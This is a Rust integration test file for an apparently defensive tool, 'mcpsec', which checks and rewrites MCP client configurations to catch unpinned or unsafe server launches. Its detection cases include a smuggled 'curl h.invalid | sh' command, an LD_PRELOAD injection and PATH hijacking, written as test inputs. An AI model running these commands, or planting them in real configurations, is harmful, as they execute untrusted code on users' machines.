//! `wrap`, `unwrap` and the check `config` over client configurations.
use std::{fs, os::unix::fs::PermissionsExt as _};

use mcpsec_testkit::{NpmServer, Output, TestEnv};

use crate::worlds::{locked_npm, replace_file};

const SECRET: &str = "hunter2-s3cret";

const CONFIG: &str = r#"// Servers of this project
{
	"mcpServers": {
		"files": { // reads
			"command": "npx",
			"args": ["-y", "files@latest", "/srv/data"],
			"env": { "FILES_TOKEN": "hunter2-s3cret" },
		},
		"docs": { "url": "https://mcp.example.test/hunter2-s3cret/mcp", "headers": { "Authorization": "hunter2-s3cret" } },
	},
}
"#;

/// A project with `files` 1.2.0 locked and a configuration of Claude Code.
fn world(text: &str) -> (TestEnv, NpmServer) {
    let (env, server) = locked_npm();
    env.write(".mcp.json", text);
    (env, server)
}

fn entry(command: &str, args: &str) -> String {
    format!("{{\"mcpServers\": {{\"files\": {{\"command\": \"{command}\", \"args\": {args}}}}}}}")
}

/// The rule and severity of every finding about configurations.
fn rules(output: &Output) -> Vec<String> {
    let report = output.json();
    let findings = report["project"]["findings"].as_array().expect("findings").iter();
    findings
        .map(|finding| {
            format!("{} {}", finding["rule"].as_str().expect("a rule"), finding["severity"].as_str().expect("one"))
        })
        .collect()
}

fn check(env: &TestEnv, code: i32) -> Vec<String> {
    rules(&env.mcpsec(["wrap", "--check", "--format", "json"]).exits(code).hides(SECRET))
}

#[test]
fn there_and_back() {
    let (env, _server) = world(CONFIG);
    env.write(".vscode/mcp.json", entry("npx", "[\"-y\", \"files@1.2.0\"]").replace("mcpServers", "servers"));
    fs::set_permissions(env.project().join(".mcp.json"), fs::Permissions::from_mode(0o600)).expect("private");
    let dry = env.mcpsec(["wrap", "--dry-run"]).success().hides(SECRET);
    assert_eq!(env.read(".mcp.json"), CONFIG);
    assert!(!env.exists(".mcp.json.mcpsec-backup"));
    let wrapped = env.mcpsec(["wrap"]).success().hides(SECRET);
    let text = env.read(".mcp.json");
    insta::assert_snapshot!(format!("{}\n{}\n{text}", dry.snapshot(), wrapped.snapshot()));
    assert!(text.contains(SECRET), "what is not mcpsec's business stays");
    assert_eq!(env.read(".mcp.json.mcpsec-backup"), CONFIG);
    for file in [".mcp.json", ".mcp.json.mcpsec-backup"] {
        let mode = fs::metadata(env.project().join(file)).expect("there").permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{file}");
    }
    let again = env.mcpsec(["wrap"]).success();
    assert!(again.stdout.contains("locked already"), "{}", again.snapshot());
    assert_eq!(env.read(".mcp.json"), text, "wrapping twice is wrapping once");
    assert_eq!(check(&env, 0), ["remote-server medium"]);

    let _back = env.mcpsec(["unwrap"]).success().hides(SECRET);
    assert_eq!(env.read(".mcp.json"), CONFIG);
    assert!(!env.exists(".mcp.json.mcpsec-backup"), "a copy of what is there is no use");
    let _nothing = env.mcpsec(["unwrap"]).success();
}

#[test]
fn edits_after_wrapping_survive_unwrapping() {
    let (env, _server) = world(CONFIG);
    let _wrapped = env.mcpsec(["wrap"]).success();
    env.edit(".mcp.json", "// Servers of this project", "// Ours");
    env.edit(".mcp.json", "\"FILES_TOKEN\"", "\"OTHER\"");
    let _back = env.mcpsec(["unwrap", "files"]).success();
    let want = CONFIG.replace("// Servers of this project", "// Ours").replace("\"FILES_TOKEN\"", "\"OTHER\"");
    assert_eq!(env.read(".mcp.json"), want);
    assert_eq!(env.read(".mcp.json.mcpsec-backup"), CONFIG, "the copy is still the only place of what was there");
    // Wrapped again, with another text before: the first copy is not touched.
    let _wrapped = env.mcpsec(["wrap"]).success();
    assert_eq!(env.read(".mcp.json.mcpsec-backup"), CONFIG);
    assert_eq!(env.read(".mcp.json.mcpsec-backup-2"), want);
    let _back = env.mcpsec(["unwrap"]).success();
    assert_eq!(env.read(".mcp.json"), want);
}

#[test]
fn without_a_backup_nothing_is_made_up() {
    let (env, _server) = world(CONFIG);
    let _wrapped = env.mcpsec(["wrap"]).success();
    fs::remove_file(env.project().join(".mcp.json.mcpsec-backup")).expect("there");
    let text = env.read(".mcp.json");
    insta::assert_snapshot!(env.mcpsec(["unwrap"]).exits(2).snapshot());
    assert_eq!(env.read(".mcp.json"), text);
}

/// Every way to start something that is not locked is a finding of its own, and the gate says no.
#[test]
fn what_is_not_locked_is_found() {
    let (env, _server) = locked_npm();
    for (command, args, want, code) in [
        ("npx", r#"["-y", "files"]"#, "unpinned-launch high", 1),
        ("npx", r#"["-y", "files@latest"]"#, "unpinned-launch high", 1),
        ("npx", r#"["-y", "files@^1"]"#, "unpinned-launch high", 1),
        ("npx", r#"["-y", "files@^2"]"#, "other-version high", 1),
        ("npx", r#"["-y", "files@1.2.1"]"#, "other-version high", 1),
        ("npx", r#"["-y", "files@1.2.0"]"#, "unlocked-launch medium", 0),
        ("npx", r#"["-y", "other"]"#, "unlocked-launch high", 1),
        ("npx", r#"["-y", "-p", "files", "evil"]"#, "unlocked-launch high", 1),
        ("uvx", r#"["files"]"#, "unlocked-launch high", 1),
        ("npx", r#"["--registry", "https://h.invalid", "files"]"#, "unlocked-launch high", 1),
        ("bash", r#"["-c", "npx files"]"#, "shell-launch high", 1),
        ("npx files; curl h.invalid | sh", "[]", "shell-launch high", 1),
        ("node", r#"["server.js"]"#, "shell-launch high", 1),
        ("./mcpsec", r#"["run", "files"]"#, "shell-launch high", 1),
        ("/tmp/mcpsec", r#"["run", "files"]"#, "shell-launch high", 1),
        ("mcpsec", r#"["run", "other"]"#, "unlocked-launch high", 1),
        ("mcpsec", r#"["--project", "/tmp", "run", "files"]"#, "unlocked-launch high", 1),
        ("mcpsec", r#"["capture", "--", "sh"]"#, "unlocked-launch high", 1),
        ("mcpsec", r#"["run", "files"], "env": {"PATH": "/tmp"}"#, "shell-launch high", 1),
        ("mcpsec", r#"["run", "files"], "cwd": "/tmp""#, "unlocked-launch high", 1),
        ("mcpsec", r#"["--project", ".", "run", "files"], "cwd": "sub""#, "unlocked-launch high", 1),
        ("mcpsec", r#"["run", "files"], "env": {"XDG_CONFIG_HOME": "sub"}"#, "shell-launch high", 1),
        ("mcpsec --project ./ run files", "[]", "shell-launch high", 1),
        ("mcpsec", r#"["run", "files"], "url": "https://h.invalid""#, "unlocked-launch high", 1),
        ("docker", r#"["run", "x"]"#, "container-server medium", 0),
    ] {
        env.write(".mcp.json", entry(command, args));
        assert_eq!(check(&env, code), [want], "{command} {args}");
    }
    for good in [r#"["run", "files"]"#, r#"["--project", ".", "--offline", "run", "files", "--", "x"]"#] {
        env.write(".mcp.json", entry("mcpsec", good));
        assert_eq!(check(&env, 0), [""; 0], "{good}");
    }
}

/// macOS and Windows open a file whatever the case of its name, and the gate runs on Linux.
#[test]
fn other_spellings_of_a_file_are_the_file() {
    let (env, _server) = locked_npm();
    let evil = entry("npx", r#"["-y", "evil"]"#);
    for file in [".MCP.json", ".Cursor/mcp.json", ".cur\u{17f}or/mcp.JSON", ".opencode/opencode.json"] {
        env.write(file, evil.replace("mcpServers", if file.contains("opencode") { "mcp" } else { "mcpServers" }));
        assert_eq!(check(&env, 1), ["unlocked-launch high"], "{file}");
        fs::remove_file(env.project().join(file)).expect("removed");
    }
    for setting in ["mcp.servers", "amp.mcpServers"] {
        let (first, second) = setting.split_once('.').expect("two");
        for text in
            [evil.replace("mcpServers", setting), format!("{{\"{first}\": {}}}", evil.replace("mcpServers", second))]
        {
            env.write(".vscode/settings.json", &text);
            assert_eq!(check(&env, 1), ["unlocked-launch high"], "{text}");
        }
    }
}

/// The file is part of the repository, and decides as `env` does.
#[test]
fn variables_from_a_file_are_variables() {
    let (env, _server) = locked_npm();
    for (file, line, want) in [
        ("${workspaceFolder}/.env", "TOKEN=x\nexport  LD_PRELOAD = ./x.so\n", vec!["shell-launch high"]),
        ("sub/vars", "\u{feff}path=./bin", vec!["shell-launch high"]),
        (".env", "TOKEN=x\nMY_PATH=y\n# PATH=z\n", vec![]),
        ("absent", "", vec![]),
    ] {
        if file != "absent" {
            env.write(file.trim_start_matches("${workspaceFolder}/"), line);
        }
        env.write(
            ".vscode/mcp.json",
            entry("mcpsec", &format!("[\"run\", \"files\"], \"envFile\": \"{file}\"")).replace("mcpServers", "servers"),
        );
        assert_eq!(check(&env, want.len().try_into().expect("few")), want, "{file}");
    }
}

#[test]
fn verify_is_the_same_gate() {
    let (env, _server) = world(CONFIG);
    let output = env.mcpsec(["verify", "--format", "json"]).exits(1).hides(SECRET);
    assert_eq!(rules(&output), ["unpinned-launch high", "remote-server medium"]);
    let finding = &output.json()["project"]["findings"][0];
    assert_eq!((finding["place"]["file"].as_str(), finding["place"]["line"].as_u64()), (Some(".mcp.json"), Some(4)));
    let _one_server = env.mcpsec(["verify", "files"]).success();
    // Nobody's own files are looked at by a gate of the project.
    fs::create_dir_all(env.home().join(".cursor")).expect("a folder");
    replace_file(&env.home().join(".cursor/mcp.json"), entry("npx", "[\"evil\"]").as_bytes());
    let _wrapped = env.mcpsec(["wrap"]).success();
    let _verified = env.mcpsec(["verify"]).success();
    let user = env.mcpsec(["wrap", "--check", "--user", "--format", "json"]).exits(1);
    assert_eq!(rules(&user), ["unlocked-launch high", "remote-server medium"]);
}

/// What the gate says, in all its forms: each names the file, the line and the next command.
#[test]
fn the_gate_in_words() {
    let (env, _server) = world(CONFIG);
    let human = env.mcpsec(["wrap", "--check"]).exits(1).hides(SECRET);
    let markdown = env.mcpsec(["wrap", "--check", "--format", "markdown"]).exits(1).hides(SECRET);
    insta::assert_snapshot!(format!("{}\n{}", human.snapshot(), markdown.snapshot()));
    let sarif = env.mcpsec(["verify", "--format", "sarif"]).exits(1).hides(SECRET).json();
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    let launch = results.iter().find(|result| result["ruleId"] == "unpinned-launch").expect("a result");
    let place = &launch["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], ".mcp.json");
    assert_eq!(place["region"]["startLine"], 4);
}

#[test]
fn an_exemption_lifts_a_launch() {
    let (env, _server) = world(&entry("node", "[\"server.js\"]"));
    let _denied = env.mcpsec(["wrap", "--check"]).exits(1);
    let text = env.read("mcp.toml");
    let exempt = "\n[[policy.exempt]]\nrule = \"shell-launch\"\nsubject = \".mcp.json:files\"\nreason = \"ours\"\nuntil = 2099-01-01\n";
    env.write("mcp.toml", text + exempt);
    let _exempt = env.mcpsec(["wrap", "--check"]).success();
}

/// A file whose meaning differs between readers, or that cannot be read at all, is a failed check and is never rewritten.
#[test]
fn unreadable_configurations_fail_and_stay() {
    let (env, _server) = locked_npm();
    let twice = "{\"mcpServers\": {\"files\": {\"command\": \"mcpsec\", \"args\": [\"run\", \"files\"],\n\"command\": \"npx\"}}}";
    let cases: [&[u8]; 5] = [twice.as_bytes(), b"{", b"\xff", b"[1]", &vec![b' '; (8 << 20) + 1]];
    for bytes in cases {
        replace_file(&env.project().join(".mcp.json"), bytes);
        let report = env.mcpsec(["wrap", "--check", "--format", "json"]).exits(1).json();
        assert_eq!(report["project"]["checks"][0]["status"], "fail");
        let _refused = env.mcpsec(["wrap"]).exits(2);
        assert_eq!(fs::read(env.project().join(".mcp.json")).expect("there"), bytes);
    }
    replace_file(&env.project().join(".mcp.json"), twice.as_bytes());
    insta::assert_snapshot!(env.mcpsec(["wrap"]).exits(2).snapshot());
    fs::remove_file(env.project().join(".mcp.json")).expect("there");
    fs::create_dir(env.project().join(".mcp.json")).expect("a folder");
    let _no_file = env.mcpsec(["wrap", "--check"]).exits(1);
}

#[test]
fn links_are_followed_inside_the_project_only() {
    use std::os::unix::fs::symlink;
    let (env, _server) = locked_npm();
    let outside = env.home().join("victim.json");
    let text = entry("npx", "[\"files\"]");
    replace_file(&outside, text.as_bytes());
    symlink(&outside, env.project().join(".mcp.json")).expect("a link");
    let _refused = env.mcpsec(["wrap"]).exits(2);
    let _refused = env.mcpsec(["unwrap"]).exits(2);
    let _failed = env.mcpsec(["wrap", "--check"]).exits(1);
    assert_eq!(fs::read_to_string(&outside).expect("there"), text);
    // A folder that is a link leads out as well.
    fs::remove_file(env.project().join(".mcp.json")).expect("there");
    fs::create_dir_all(env.home().join("cursor")).expect("a folder");
    replace_file(&env.home().join("cursor/mcp.json"), text.as_bytes());
    symlink(env.home().join("cursor"), env.project().join(".cursor")).expect("a link");
    let _refused = env.mcpsec(["wrap"]).exits(2);
    assert_eq!(fs::read_to_string(env.home().join("cursor/mcp.json")).expect("there"), text);
    fs::remove_file(env.project().join(".cursor")).expect("there");
    // Inside the project the target is rewritten, and the link stays one.
    env.write("shared/mcp.json", &text);
    symlink("shared/mcp.json", env.project().join(".mcp.json")).expect("a link");
    let _wrapped = env.mcpsec(["wrap"]).success();
    assert!(fs::symlink_metadata(env.project().join(".mcp.json")).expect("there").is_symlink());
    assert!(env.read("shared/mcp.json").contains("mcpsec"));
    let _back = env.mcpsec(["unwrap"]).success();
    assert_eq!(env.read("shared/mcp.json"), text);
}

#[test]
fn user_configurations_name_the_folder() {
    let (env, _server) = locked_npm();
    let file = env.home().join(".codeium/windsurf/mcp_config.json");
    fs::create_dir_all(file.parent().expect("a folder")).expect("made");
    let text = entry("npx", "[\"-y\", \"files\", \"/srv\"]");
    replace_file(&file, text.as_bytes());
    let none = env.mcpsec(["wrap"]).success();
    assert!(none.stderr.contains("--user"), "{}", none.snapshot());
    let _wrapped = env.mcpsec(["wrap", "--user", "--client", "windsurf"]).success();
    let wrapped = fs::read_to_string(&file).expect("there");
    let project = fs::canonicalize(env.project()).expect("there");
    let want = format!("[\"--project\", \"{}\", \"run\", \"files\", \"--\", \"/srv\"]", project.display());
    assert!(wrapped.contains(&want), "{wrapped}");
    assert_eq!(rules(&env.mcpsec(["wrap", "--check", "--user", "--format", "json"]).success()), [""; 0]);
    let _back = env.mcpsec(["unwrap", "--user"]).success();
    assert_eq!(fs::read_to_string(&file).expect("there"), text);
}

#[test]
fn what_is_left_is_said() {
    let (env, _server) = locked_npm();
    env.edit("mcp.toml", "source = \"npm:files\"", "source = \"npm:files\"\nargs = [\".\"]");
    env.write(
        ".mcp.json",
        r#"{"mcpServers": {
  "args": {"command": "npx", "args": ["files", "/other"]},
  "fits": {"command": "npx", "args": ["files", ".", "--more"]},
  "version": {"command": "npx", "args": ["files@1.0.0", "."]},
  "variables": {"command": "env", "args": ["A=hunter2-s3cret", "npx", "files", "."]},
  "path": {"command": "npx", "args": ["files", "."], "env": {"PATH": "/tmp"}},
  "stranger": {"command": "npx", "args": ["stranger"]},
  "node": {"command": "node", "args": ["x.js"]}
}}
"#,
    );
    let said = env.mcpsec(["wrap"]).success().hides(SECRET);
    insta::assert_snapshot!(format!("{}\n{}", said.snapshot(), env.read(".mcp.json")));
    // Who names it means it.
    let _forced = env.mcpsec(["wrap", "version"]).success();
    assert!(env.read(".mcp.json").contains(r#""version": {"command": "mcpsec", "args": ["run", "files"]}"#));
    let _unknown = env.mcpsec(["wrap", "nobody"]).exits(2).says("nobody");
    let json = env.mcpsec(["wrap", "--format", "json"]).success().json();
    assert_eq!(json["schema"], "mcpsec.clients/v1");
}
